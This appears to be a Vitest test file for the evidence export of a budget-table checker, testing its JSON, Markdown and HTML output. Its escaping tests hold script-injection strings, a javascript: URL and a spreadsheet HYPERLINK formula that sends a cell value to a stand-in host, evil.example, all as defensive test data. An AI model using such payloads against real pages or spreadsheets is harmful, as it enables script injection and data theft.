import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { SAMPLE_TITLE, SAMPLE_URL, sampleReport } from '../../test/export/fixtures.ts';
import { readMarkdownTable, unescapeMarkdown } from '../../test/export/read-markdown.ts';
import { type Evidence, type EvidenceContext, evidence, evidencePack } from './evidence.ts';

const CONTEXT: EvidenceContext = {
  url: SAMPLE_URL,
  pageTitle: SAMPLE_TITLE,
  checkedAt: '2024-05-01T08:30:00.000Z',
  pageTextHash: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
};

describe('evidence data', () => {
  const e = evidence(sampleReport(), CONTEXT);

  it('counts findings by severity and sums the tallies', () => {
    // 3 findings: f1 error, f2 info, f3 warning; tallies 20+3+2 checks, 19+2+1 passed, 1 within rounding.
    expect(e.counts).toEqual({ findings: 3, error: 1, warning: 1, info: 1, tables: 4, checks: 25, passed: 22, rounding: 1 });
    expect(e.page).toEqual({
      url: SAMPLE_URL,
      title: SAMPLE_TITLE,
      checkedAt: CONTEXT.checkedAt,
      textSha256: CONTEXT.pageTextHash,
      hashed: 'page-text',
    });
  });

  it('gives every finding its rule, severity, values, labels and the printed cells', () => {
    expect(e.findings[0]).toMatchObject({
      number: 1,
      rule: 'performance-funding-source',
      severity: 'error',
      table: '项目支出绩效目标表',
      rowLabel: '项目资金 (万元)',
      colLabel: '其中: 财政拨款',
      stated: '90',
      expected: '0',
      diff: '90',
    });
    expect(e.findings[0].cells.map((c) => [c.row, c.col, c.text])).toEqual([
      [2, 5, '90'],
      [2, 2, '90'],
    ]);
    expect(e.findings[1]).toMatchObject({ table: '表2 单位收入总体情况表', quote: '非财政拨款项目 2 个，金额 97.01 万元。' });
    expect(e.findings[1].cells[0]).toMatchObject({ text: '97.02', column: '单 位 资 金' });
  });

  it('keeps the tables involved, with their header rows and only the rows a finding touches', () => {
    // The second 绩效目标表 (t9) is named by no finding.
    expect(e.tables.map((t) => t.id)).toEqual(['t1', 't8', 't2']);
    const [income, performance, hostile] = e.tables;
    expect(income.rows.map((r) => r.row)).toEqual([0, 1, 4]);
    expect(income.marks).toEqual({ '4,7': [2] });
    expect(income.headerSpans).toHaveLength(5);
    expect(performance.rows.map((r) => r.row)).toEqual([2]);
    expect(performance.marks).toEqual({ '2,5': [1], '2,2': [1] });
    expect(hostile.rows.map((r) => r.row)).toEqual([0, 1, 2]);
  });

  it('skips cell references outside the grid instead of throwing', () => {
    const report = sampleReport();
    report.findings[0].cells.push({ tableId: 't8', row: 99, col: 0 }, { tableId: 'nope', row: 0, col: 0 });
    expect(evidence(report, CONTEXT).findings[0].cells).toHaveLength(2);
  });
});

describe('evidence JSON', () => {
  it('parses back to the same data', () => {
    const pack = evidencePack(sampleReport(), CONTEXT);
    const json: Evidence = JSON.parse(pack.json);
    expect(json.format).toBe('budget-check/evidence');
    expect(json).toEqual(JSON.parse(JSON.stringify(evidence(sampleReport(), CONTEXT))));
    expect(json.findings[2].quote).toBe('</textarea><script>alert("x")</script>\n第二行 | 竖线');
  });
});

describe('evidence Markdown', () => {
  const markdown = evidencePack(sampleReport(), CONTEXT).markdown;

  it('starts with the page, time, hash and the counts', () => {
    const lines = markdown.split('\n');
    expect(lines[0]).toBe(`# 核对证据 Evidence: ${SAMPLE_TITLE}`);
    expect(markdown).toContain(`- 网址 URL: <${SAMPLE_URL}>`);
    expect(markdown).toContain('- 核对时间 Checked at: 2024-05-01T08:30:00.000Z');
    expect(markdown).toContain(`- 页面文本 SHA-256 Page text SHA-256: \`${CONTEXT.pageTextHash}\``);
    expect(evidencePack(sampleReport(), { ...CONTEXT, hashed: 'source-file' }).markdown).toContain('- 源文件 SHA-256 Source file SHA-256: `');
    const summary = readMarkdownTable(markdown);
    expect(summary.header[0]).toBe('发现 Findings');
    expect(summary.body).toEqual([['3', '1', '1', '1', '4', '25', '22', '1']]);
  });

  it('lists each finding with its values and quote', () => {
    expect(markdown).toContain('### 1. 错误 Error · performance-funding-source');
    expect(markdown).toContain('- 列示数 Stated: 90\n- 应为 Expected: 0\n- 差额 Difference: 90');
    expect(markdown).toContain('### 2. 提示 Info · prose-amount');
    expect(markdown).toContain('> 非财政拨款项目 2 个，金额 97.01 万元。');
  });

  it('escapes hostile text everywhere', () => {
    // Every "<" that page text brings is backslash-escaped.
    expect(markdown).not.toMatch(/(?<!\\)<(script|img|textarea|\/td)/i);
    // The quote keeps its two lines, each escaped.
    expect(markdown).toContain('> \\</textarea\\>\\<script\\>alert\\("x"\\)\\</script\\>\n> 第二行 \\| 竖线');
    const quoteLines = markdown.split('\n').filter((l) => l.startsWith('> ') && l.includes('竖线'));
    expect(quoteLines.map((l) => unescapeMarkdown(l.slice(2)))).toEqual(['第二行 | 竖线']);
    const message = markdown.split('\n').find((l) => l.includes('合计不符'))!;
    expect(unescapeMarkdown(message)).toBe('<img src=x onerror=alert(1)> 合计不符 & "引号"');
  });

  it('shows the touched rows of each table with the pointed-at cells in bold', () => {
    expect(markdown).toContain('### 表2 单位收入总体情况表');
    const row = markdown.split('\n').find((l) => l.startsWith('| 5 | 201 | 03 | 01 |'));
    expect(row).toBe('| 5 | 201 | 03 | 01 | 行政运行 | 414.94 | 317.92 | 317.92 | **97.02** [2] |');
  });
});

describe('evidence HTML', () => {
  const html = evidencePack(sampleReport(), CONTEXT).html;
  const { document } = parseHTML(html);

  it('is a standalone page without scripts, with a CSP that forbids them', () => {
    expect(document.querySelectorAll('script')).toHaveLength(0);
    expect(document.querySelectorAll('img, iframe, object, embed, link[rel=stylesheet]')).toHaveLength(0);
    const csp = document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content');
    expect(csp).toBe("default-src 'none'; style-src 'unsafe-inline'");
    for (const el of document.querySelectorAll('*')) {
      for (const name of el.getAttributeNames()) expect(name.startsWith('on')).toBe(false);
    }
  });

  it('shows hostile text as text', () => {
    expect(document.title).toBe(`核对证据 Evidence: ${SAMPLE_TITLE}`);
    const finding3 = document.querySelector('#finding-3')!;
    expect(finding3.textContent).toContain('<img src=x onerror=alert(1)> 合计不符 & "引号"');
    expect(finding3.textContent).toContain('Total </td></tr><script>alert(2)</script> mismatch');
    const quote = finding3.querySelector('blockquote')!;
    expect(quote.textContent).toBe('</textarea><script>alert("x")</script>第二行 | 竖线');
    expect(quote.querySelectorAll('br')).toHaveLength(1);
    expect(html).toContain('<blockquote>&lt;/textarea&gt;&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;<br>第二行 | 竖线</blockquote>');
    expect(document.body.textContent).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"点我")');
  });

  it('links the page address and states the counts', () => {
    const link = document.querySelector('a[href^="http"]')!;
    expect(link.getAttribute('href')).toBe(SAMPLE_URL);
    const counts = [...document.querySelectorAll('#summary td')].map((td) => td.textContent);
    expect(counts).toEqual(['3', '1', '1', '1', '4', '25', '22', '1']);
  });

  it('rebuilds the header with its merges and marks the touched cells', () => {
    const table = [...document.querySelectorAll('section')].find((s) => s.querySelector('h3')?.textContent === '表2 单位收入总体情况表')!;
    const header = table.querySelectorAll('thead tr');
    expect(header).toHaveLength(2);
    const first = [...header[0].querySelectorAll('th')].map((th) => [th.textContent, th.getAttribute('colspan'), th.getAttribute('rowspan')]);
    expect(first).toEqual([
      ['行 Row', null, '2'],
      ['功能分类科目编码', '3', null],
      ['功能分类科目名称', null, '2'],
      ['总 计', null, '2'],
      ['财 政 拨 款 ( 补 助 )', '2', null],
      ['单 位 资 金', null, '2'],
    ]);
    const body = table.querySelectorAll('tbody tr');
    expect(body).toHaveLength(1);
    expect(body[0].querySelector('mark')?.textContent).toBe('97.02');
  });

  it('does not link a javascript: address', () => {
    const { document: doc } = parseHTML(evidencePack(sampleReport(), { ...CONTEXT, url: 'javascript:alert(1)' }).html);
    expect(doc.querySelectorAll('a[href^="javascript"]')).toHaveLength(0);
    expect(doc.body.textContent).toContain('javascript:alert(1)');
  });
});
